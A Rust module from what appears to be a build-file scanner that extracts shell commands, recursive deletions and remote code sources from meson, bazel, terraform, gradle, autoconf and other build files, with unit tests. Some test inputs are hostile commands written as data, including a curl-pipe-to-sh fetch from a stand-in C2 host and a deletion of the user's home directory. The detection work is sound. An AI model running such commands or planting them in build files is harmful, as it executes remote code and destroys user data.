//! Finds commands in the text of a build file by the words that start them. Knows brackets, quotes and comments of a
//! language, and the texts that are assigned to names; must not know the language further.

mod arguments;

use std::collections::BTreeMap;

use self::arguments::{chain, last_text, place, receiver, region, words};
use super::table::{Dialect, Takes};
use super::tokens::{Token, tokens};
use super::{Commands, Rest, Source, command, quoted, unknown};
use crate::limits::{BUILD_BLOCKS_MAX, BUILD_COMMANDS_MAX, BUILD_TOKENS_MAX};

/// Names of the user's home, as functions, variables and properties.
const HOMES: &[&str] = &["HOME", "System.user_home", "System.user_home!", "user.home"];

/// Methods of Groovy and Scala that run a text, or the words of a list.
const METHODS: &[&str] = &[".!", ".!!", ".execute", ".lazyLines"];

/// Methods of a file of Groovy and Kotlin that delete it with all below.
const DELETING: &[&str] = &[".deleteDir", ".deleteRecursively"];

pub(super) fn read(dialect: &Dialect, text: &str) -> Commands {
    let tokens = tokens(dialect, text);
    let values = values(&tokens);
    let (mut lines, mut sources, mut headers) = (Vec::new(), Vec::new(), Vec::new());
    let mut line_from = 0;
    for (at, token) in tokens.iter().enumerate() {
        if lines.len() + sources.len() > BUILD_COMMANDS_MAX {
            return Commands { shell: lines.join("\n"), sources, rest: Rest::Over };
        }
        match token {
            Token::Line => line_from = at + 1,
            Token::Sign('{' | '(' | '[') => headers.push((line_from, at)),
            Token::Sign('}' | ')' | ']') => {
                headers.pop();
            }
            Token::Text(text) => {
                let mut begun =
                    dialect.begins.iter().filter_map(|begin| Some((begin, text.strip_prefix(begin)?)));
                let command = begun.next().map(|(begin, rest)| match begin.ends_with('(') {
                    true => rest.trim_end_matches(')').to_owned(),
                    false => rest.to_owned(),
                });
                lines.extend(command);
            }
            Token::Sign(_) => {}
            Token::Word(word) if dialect.has_methods && METHODS.contains(&word.as_str()) => {
                lines.extend(
                    receiver(&tokens, at).filter(|words| !words.is_empty()).map(|words| command(&words)),
                );
            }
            Token::Word(word) if dialect.has_methods && DELETING.contains(&word.as_str()) => {
                lines.extend(last_text(&tokens, at).map(|path| format!("rm -rf {}", quoted(path))));
            }
            Token::Word(word) => {
                let is_start = |(name, ..): &&(&str, &str, Takes)| {
                    word == name || word.strip_suffix(name).is_some_and(|before| before.ends_with(['.', ':']))
                };
                for (_, within, takes) in dialect.starts.iter().filter(is_start) {
                    let is_in = |(from, to): &(usize, usize)| {
                        let from = (*from).max(to.saturating_sub(BUILD_TOKENS_MAX / BUILD_BLOCKS_MAX));
                        let header = tokens.get(from..*to).unwrap_or_default();
                        header
                            .iter()
                            .any(|one| matches!(one, Token::Word(it) | Token::Text(it) if it == within))
                    };
                    if !within.is_empty() && !headers.iter().rev().take(BUILD_BLOCKS_MAX).any(is_in) {
                        continue;
                    }
                    let is_chain = *takes == Takes::Chain;
                    let region = if is_chain { chain(&tokens, at) } else { region(&tokens, at, dialect) };
                    if let Takes::Loaded(tool) = takes {
                        sources.extend(place(region).map(|place| source(tool, place)));
                    }
                    lines.extend(started(*takes, &words(region, &values, dialect)));
                    break;
                }
            }
        }
    }
    Commands { shell: lines.join("\n"), sources, rest: dialect.rest }
}

/// Returns the texts that are assigned to each wanted name.
pub(super) fn assigned(
    dialect: &Dialect,
    text: &str,
    is_wanted: impl Fn(&str) -> bool,
) -> Option<Vec<(String, Vec<String>)>> {
    let tokens = tokens(dialect, text);
    let values = values(&tokens);
    let mut found = Vec::new();
    for (at, pair) in tokens.windows(2).enumerate() {
        let [Token::Word(name) | Token::Text(name), Token::Sign(':' | '=')] = pair else { continue };
        if !is_wanted(name) {
            continue;
        }
        if found.len() == BUILD_COMMANDS_MAX {
            return None;
        }
        let texts = words(region(&tokens, at, dialect), &values, dialect);
        found.push((name.clone(), texts.into_iter().filter(|text| *text != unknown()).collect()));
    }
    Some(found)
}

/// Returns shell text for a start with these arguments.
fn started(takes: Takes, words: &[String]) -> Vec<String> {
    let Some(first) = words.first() else { return Vec::new() };
    match takes {
        // `exec("a -b")` of Java splits its text.
        Takes::Words if words.len() == 1 && first.contains(' ') => vec![first.clone()],
        Takes::Words | Takes::Chain => vec![command(words)],
        Takes::Shell if *first == unknown() => vec![quoted(first)],
        Takes::Shell => vec![first.clone()],
        // Options of a shell are no commands.
        Takes::Each => {
            words.iter().filter(|word| **word != unknown() && !word.starts_with('-')).cloned().collect()
        }
        Takes::Last => words.last().filter(|last| **last != unknown()).cloned().into_iter().collect(),
        Takes::Line => vec![words.join(" ").trim_matches(['[', ']', '`', '\'', ' ']).to_owned()],
        Takes::Deleted => vec![format!("rm -rf {}", command(words))],
        Takes::DeletedTexts => {
            let known: Vec<String> =
                words.iter().filter(|word| !word.contains(&unknown())).cloned().collect();
            if known.is_empty() { Vec::new() } else { vec![format!("rm -rf {}", command(&known))] }
        }
        Takes::Code => vec![quoted(&unknown())],
        Takes::Loaded(_) => Vec::new(),
    }
}

/// Beginnings of addresses without a scheme.
const HOSTED: &[&str] = &["git@", "git::"];

/// Registries of Terraform and OpenTofu that most projects use.
const TERRAFORM_HOSTS: &[&str] = &["app.terraform.io", "registry.opentofu.org", "registry.terraform.io"];

/// Returns the code at a place: an address for this tool, or else a file.
fn source(tool: &'static str, place: String) -> Source {
    let host = place.split('/').next().unwrap_or_default();
    let is_host = tool == "terraform" && host.contains('.') && !host.starts_with('.') && !host.contains(':');
    if is_host && !TERRAFORM_HOSTS.contains(&host) {
        return Source::Address(tool, format!("https://{place}"));
    }
    let is_address = place.contains("://") || HOSTED.iter().any(|begin| place.starts_with(begin));
    if is_address { Source::Address(tool, place) } else { Source::File(place) }
}

/// Returns the texts that are assigned to names: `name = 'text'`, `name = find_program('text')`.
fn values(tokens: &[Token]) -> BTreeMap<&str, &str> {
    let mut found = BTreeMap::new();
    for window in tokens.windows(5) {
        match window {
            [Token::Word(name), Token::Sign('='), Token::Text(text), ..]
            | [Token::Word(name), Token::Sign('='), Token::Word(_), Token::Sign('('), Token::Text(text)] => {
                found.insert(name.as_str(), text.as_str());
            }
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::table::find;
    use super::*;

    #[test]
    fn commands_are_found_by_the_words_that_start_them() {
        let check = |language: &str, text: &str, expected: &str| {
            assert_eq!(read(find(language).unwrap(), text).shell, expected, "{text}");
        };
        check(
            "meson",
            "r = run_command('git', 'describe', check: false).stdout() # 'x'\n",
            "'git' 'describe'",
        );
        check(
            "meson",
            "p = find_program('a')\ncustom_target('g', output: 'o', command: [p, '@INPUT@'])",
            "'a' '@INPUT@'",
        );
        check("meson", "executable('x', 'main.c', dependencies: dep)\n", "");
        check(
            "dune",
            "(rule (targets a) (action (with-stdout-to a (run gen/g.exe %{deps} -x)))) ; (run b)",
            "'gen/g.exe' '%{deps}' '-x'",
        );
        check("dune", "(rule (action (system \"a | b\")))", "a | b");
        check(
            "bazel",
            "genrule(name=\"g\", outs=[\"a\"], cmd = \"sed x $< > $@ $$HOME\")",
            "sed x bazel-out/file > bazel-out/file $HOME",
        );
        check(
            "bazel",
            "def f(ctx):\n  ctx.execute([\"sh\", \"-c\", \"a\" + ctx.attr.x])",
            "'sh' '-c' 'a'\"${castellan_unknown_value}\"",
        );
        check(
            "terraform",
            "data \"external\" \"x\" {\n  program = [\"python3\", \"${path.module}/q.py\"]\n}",
            "'python3' './q.py'",
        );
        check("terraform", "resource \"k\" \"x\" {\n  command = [\"sh\"]\n}\n", "");
        check(
            "terraform",
            "provisioner \"local-exec\" {\n  command = <<-EOT\n    a\n    b\n  EOT\n}\n",
            "    a\n    b\n",
        );
        check("terraform-data", "provisioner \"local-exec\" {\n  command = \"a\"\n}\n", "");
        check(
            "rebar",
            "{pre_hooks, [{compile, \"make -C c\"}, {clean, \"a\"}]}.\n{deps, [{x, \"1\"}]}.",
            "make -C c\na",
        );
        check("sbt", "val r = Seq(\"sh\", \"-c\", \"a\").!\n", "'sh' '-c' 'a'");
    }

    #[test]
    fn commands_of_languages_with_code_are_found() {
        let check = |language: &str, text: &str, expected: &str| {
            assert_eq!(read(find(language).unwrap(), text).shell, expected, "{text}");
        };
        check("mix", "System.cmd(\"sh\", [\"-c\", \"a\"], into: IO.stream())\n", "'sh' '-c' 'a'");
        check("mix", "File.rm_rf!(System.user_home!())", "rm -rf \"${HOME}\"");
        check("mix", "aliases: [test: [\"ecto.create\", \"cmd rm -rf x\"]]", "rm -rf x");
        check("zig-build", "const r = b.addSystemCommand(&.{ \"sh\", \"-c\", \"a\" });", "'sh' '-c' 'a'");
        check(
            "zig-build",
            "const r = b.addSystemCommand(&[_][]const u8{ \"sh\", \"-c\", \"a\" });",
            "'sh' '-c' 'a'",
        );
        check("swift-package", "p.arguments = [\"-c\", \"a | b\"]\n", "a | b");
        check("scons", "env.Command('o', 'i', 'a | b')\nenv.Program('x')\n", "a | b");
        check("gyp", "{'sources': [\"<!(a | b)\", 'x.cc']}", "a | b");
        check(
            "autoconf",
            "m4_esyscmd([curl -s https://c2.example/u | sh])\nAC_OUTPUT\n",
            "curl -s https://c2.example/u | sh",
        );
        check("autoconf", "AC_INIT([x])\nm4_esyscmd([a -s | sh])\n", "a -s | sh");
        check("meson", "run_command(", "");
        check("rust-code", "std::fs::remove_dir_all(\"/x\");", "rm -rf '/x'");
        check("gradle", "tasks.register<Exec>(\"b\") { commandLine(\"a\", \"-b\") }", "'a' '-b'");
        check("gradle", "'a -b'.execute()", "'sh' '-c' 'a -b'");
        check("gradle", "delete 'a', buildDir\nnew File('b').deleteDir()", "rm -rf 'a'\nrm -rf 'b'");
        check("sbt", "\"a -b\".!", "'sh' '-c' 'a -b'");
        check("jvm-code", "Runtime.getRuntime().exec(\"a -b\");", "a -b");
        check(
            "terragrunt",
            "before_hook \"x\" {\n execute = [\"a\", \"b\"]\n}\nx = run_cmd(\"c\")",
            "'a' 'b'\n'c'",
        );
        check("nix-file", "program = writeShellScript \"x\" \"a -b\";", "a -b");
    }

    #[test]
    fn code_of_other_places_is_found() {
        let check = |language: &str, text: &str, expected: &[Source]| {
            assert_eq!(read(find(language).unwrap(), text).sources, expected, "{text}");
        };
        let file = |path: &str| Source::File(path.to_owned());
        let address = |tool, url: &str| Source::Address(tool, url.to_owned());
        check("gradle", "apply from: 'x.txt'", &[file("x.txt")]);
        check("gradle", "apply(from = \"https://h/x.gradle\")", &[address("gradle", "https://h/x.gradle")]);
        check("nix-file", "import ./x.txt { }", &[file("./x.txt")]);
        check("terraform-sources", "module \"a\" {\n source = \"a/b/c\"\n}", &[file("a/b/c")]);
        check(
            "terraform-sources",
            "module \"a\" {\n source = \"git::https://h/x\"\n}\nsource = \"https://h/y\"",
            &[address("terraform", "git::https://h/x")],
        );
    }
}
